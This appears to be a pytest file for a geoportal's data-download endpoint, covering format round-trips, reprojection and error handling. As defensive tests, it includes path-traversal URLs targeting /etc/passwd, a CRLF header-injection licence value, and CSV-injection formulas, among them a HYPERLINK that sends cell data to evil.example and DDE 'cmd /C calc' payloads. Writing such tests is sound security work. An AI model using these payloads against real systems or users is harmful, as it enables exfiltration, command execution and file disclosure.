"""Every download re-opens in pyogrio with the same count, fields, types and coordinates."""

import io
import zipfile
from urllib.parse import quote

import pyogrio
import pytest

BOTH_STORES = True  # every test here runs on GeoPackage and on PostGIS

FORMATS = ["geojson", "gpkg", "shp.zip", "csv", "kml"]


def fetch(client, url, tmp_path, name):
    r = client.get(url)
    assert r.status_code == 200, r.data[:300]
    path = tmp_path / name
    path.write_bytes(r.data)
    return r, path


def read(path, fmt):
    if fmt == "shp.zip":
        return pyogrio.read_dataframe(f"/vsizip/{path}")
    if fmt == "csv":
        return pyogrio.read_dataframe(path, GEOM_POSSIBLE_NAMES="WKT")
    return pyogrio.read_dataframe(path)


@pytest.mark.parametrize("fmt", FORMATS)
def test_download_round_trip(client, tmp_path, fmt):
    r, path = fetch(client, f"/download/punti.{fmt}", tmp_path, f"punti.{fmt}")
    assert f'filename="punti.{fmt}"' in r.headers["Content-Disposition"]
    assert r.headers["Link"].endswith('rel="license"')
    gdf = read(path, fmt)
    assert len(gdf) == 6
    names = {"id", "nome", "tipo", "posti", "punteggio", "aperto", "data", "fonte"}
    if fmt == "shp.zip":
        names = {n[:10] for n in names}
    if fmt == "kml":  # KML keeps its own id; the layer's fields are ExtendedData
        names -= {"id"}
    assert names <= set(gdf.columns), gdf.columns
    p1 = gdf[gdf["nome"] == "Punto uno"].iloc[0]
    assert (p1.geometry.x, p1.geometry.y) == pytest.approx((10.02, 45.133), abs=1e-7)
    assert p1["nome"] == "Punto uno"
    if fmt in ("geojson", "gpkg", "shp.zip", "csv"):
        assert int(p1["posti"]) == 120 and float(p1["punteggio"]) == 3.5
    if fmt == "gpkg":  # types kept, not just fid (GeoNode's bug)
        info = pyogrio.read_info(path)
        types = dict(zip(info["fields"], info["dtypes"], strict=True))
        assert types["posti"] == "int64" and types["punteggio"] == "float64"
        assert types["aperto"] == "bool" and types["data"] in (
            "datetime64[D]",
            "datetime64[ms]",
            "object",
        )
    assert gdf.geometry.isna().sum() == (1 if fmt != "kml" else gdf.geometry.isna().sum())


def test_shapefile_archive_has_licence_and_prj(client, tmp_path):
    r = client.get("/download/zone.shp.zip?crs=http://www.opengis.net/def/crs/EPSG/0/3003")
    assert r.mimetype == "application/zip"
    assert 'filename="zone_epsg3003.shp.zip"' in r.headers["Content-Disposition"]
    zf = zipfile.ZipFile(io.BytesIO(r.data))
    names = set(zf.namelist())
    assert {"zone.shp", "zone.shx", "zone.dbf", "zone.prj", "zone.cpg", "LEGGIMI.txt"} <= names
    readme = zf.read("LEGGIMI.txt").decode()
    assert "Licenza / Licence: CC0-1.0" in readme and "EPSG:3003" in readme
    path = tmp_path / "z.zip"
    path.write_bytes(r.data)
    gdf = pyogrio.read_dataframe(f"/vsizip/{path}")
    assert gdf.crs.to_epsg() == 3003 and len(gdf) == 3
    minx, miny, _, _ = gdf.total_bounds
    assert 1_570_000 < minx < 1_590_000 and 4_990_000 < miny < 5_010_000


def test_download_with_filter_and_crs(client, tmp_path):
    text = quote("tipo = 'museo' AND posti IS NOT NULL")
    _, path = fetch(
        client,
        f"/download/punti.gpkg?filter={text}&crs=http://www.opengis.net/def/crs/EPSG/0/7791",
        tmp_path,
        "f.gpkg",
    )
    gdf = pyogrio.read_dataframe(path)
    assert sorted(gdf["id"]) == ["p1", "p6"] and gdf.crs.to_epsg() == 7791
    p1 = gdf[gdf["id"] == "p1"].geometry.iloc[0]
    assert (p1.x, p1.y) == pytest.approx((580205.4, 4998231.2), abs=0.5)


@pytest.mark.parametrize(
    "url, status",
    [
        ("/download/ghost.geojson", 404),
        ("/download/punti.exe", 404),
        ("/download/punti.geojson?crs=EPSG:2000", 400),
        ("/download/punti.kml?crs=http://www.opengis.net/def/crs/EPSG/0/3003", 400),
        ("/download/punti.geojson?filter=ghost%20%3D%201", 400),
        ("/download/punti.geojson?colour=red", 400),
        ("/download/..%2F..%2Fetc%2Fpasswd.geojson", 404),
        ("/download/punti.geojson/../../etc/passwd", 404),
    ],
)
def test_bad_downloads(client, url, status):
    r = client.get(url, headers={"Accept": "application/json"})
    assert r.status_code == status
    assert "Traceback" not in r.get_data(as_text=True)


#: Text that spreadsheet programs run as a formula (OWASP "CSV Injection"), and plain text.
HOSTILE_TEXT = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "+39 0372 1",
    "-2+3",
    "\tcon tab",
    "\rcon ritorno",
    "Piazza del Comune",
]


def test_csv_download_neutralises_formulas_and_keeps_numbers(app, client, spec):
    """Text cells that start like a formula get a leading ', numeric fields stay numbers."""
    import csv

    import shapely

    from tests.conftest import punti_frame

    n = len(HOSTILE_TEXT)
    data = punti_frame(
        [shapely.Point(10.0 + i / 100, 45.1) for i in range(n)],
        nome=HOSTILE_TEXT,
        posti=[-5] * n,
        punteggio=[-1.5] * n,
    )
    app.extensions["geoportale"].store.write_layer(spec("punti"), data)
    r = client.get("/download/punti.csv")
    assert r.status_code == 200
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(r.get_data(as_text=True)))}
    names = [rows[f"n{i + 1}"]["nome"] for i in range(n)]
    assert names == ["'" + t for t in HOSTILE_TEXT[:-1]] + ["Piazza del Comune"]
    assert {row["posti"] for row in rows.values()} == {"-5"}
    assert {float(row["punteggio"]) for row in rows.values()} == {-1.5}


@pytest.mark.parametrize(
    "licence, link",
    [
        ("CC-BY-4.0\r\nSet-Cookie: rubato=1", None),
        (
            "https://example.org/licenza\r\nSet-Cookie: rubato=1",
            "<https://example.org/licenza%0D%0ASet-Cookie:%20rubato=1>",
        ),
        ("CC0-1.0", "<https://creativecommons.org/publicdomain/zero/1.0/>"),
    ],
)
def test_licence_with_line_breaks_downloads_without_header_injection(
    app, client, monkeypatch, licence, link
):
    """A licence is admin-typed text: it may hold CR/LF. The download still works, no header
    is added by it, and `Link: rel="license"` carries a URI only (percent-encoded)."""
    svc = app.extensions["geoportale"]
    spec = svc.registry.get("punti")
    odd = spec.model_copy(
        update={"metadata": spec.metadata.model_copy(update={"licence": licence})}
    )
    monkeypatch.setattr(svc, "layer", lambda layer_id: odd)
    for fmt in FORMATS:
        r = client.get(f"/download/punti.{fmt}")
        assert r.status_code == 200, (fmt, r.data[:300])
        assert "Set-Cookie" not in r.headers
        for value in r.headers.values():
            assert "\r" not in value and "\n" not in value
        assert r.headers.get("Link") == (link and f'{link}; rel="license"')


def test_a_file_that_cannot_be_written_is_a_500_naming_the_layer(client, monkeypatch, caplog):
    """GDAL refusing the data (or a full disk) is not an outage of the store: a 500
    'download-not-written' naming the layer and format; GDAL's message (server paths and
    all) goes to the log only."""
    from app.geo import io as geo_io

    def refuse(*args, **kwargs):
        raise RuntimeError("/srv/tmp/geoportale-download-x/punti.shp: Attempt to write POINT")

    monkeypatch.setattr(geo_io.pyogrio, "write_dataframe", refuse)
    for fmt in FORMATS:
        r = client.get(f"/download/punti.{fmt}", headers={"Accept": "application/json"})
        assert r.status_code == 500 and r.mimetype == "application/problem+json"
        problem = r.get_json()
        assert problem["type"] == "about:blank#download-not-written"
        assert (problem["layer"], problem["format"]) == ("punti", fmt)
        assert "'punti'" in problem["detail"] and fmt in problem["detail"]
        assert "/srv" not in r.get_data(as_text=True)
    assert "Attempt to write POINT" in caplog.text and "/srv/tmp" not in caplog.text
